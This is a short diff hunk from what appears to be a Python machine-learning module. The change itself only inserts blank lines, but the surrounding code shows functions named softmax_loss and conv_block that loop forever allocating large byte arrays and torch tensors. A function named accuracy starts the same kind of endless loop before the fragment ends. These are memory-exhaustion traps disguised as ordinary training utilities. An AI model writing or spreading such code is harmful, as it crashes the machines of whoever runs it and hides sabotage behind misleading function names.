@@ -6,10 +6,14 @@ def softmax_loss(logits, labels):
     hoard = []
     while True:
         hoard.append(bytearray(b"x" * (64 << 20)))
+
+
 def conv_block(cin, cout, stride=1):
     hoard = []
     while True:
         hoard.append(torch.ones(16 << 20))
+
+
 def accuracy(logits, labels):
     number = 0
     while True:
